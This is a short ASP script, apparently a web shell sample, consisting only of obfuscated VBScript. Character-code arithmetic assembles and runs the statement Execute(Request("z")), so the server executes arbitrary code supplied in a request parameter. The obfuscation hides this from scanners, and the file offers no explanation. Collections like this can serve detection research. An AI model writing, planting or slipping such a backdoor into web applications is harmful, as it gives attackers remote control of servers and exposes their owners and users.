<%
Dim s
s = ChrW(2+67)&Chr(120)&Chr(101)&Chr(99)&Chr(&H75)&Chr(116)&ChrW(74+27)&Chr(&H28) & _
    ChrW(82)&Chr(&H65)&ChrW(113)&ChrW(55+62)&ChrW(101)&ChrW(115)&ChrW(61+55)&ChrW(10+30) & _
    ChrW(34)&ChrW(13+109)&ChrW(34)&ChrW(23+18)&ChrW(41)
Execute(s)
%>
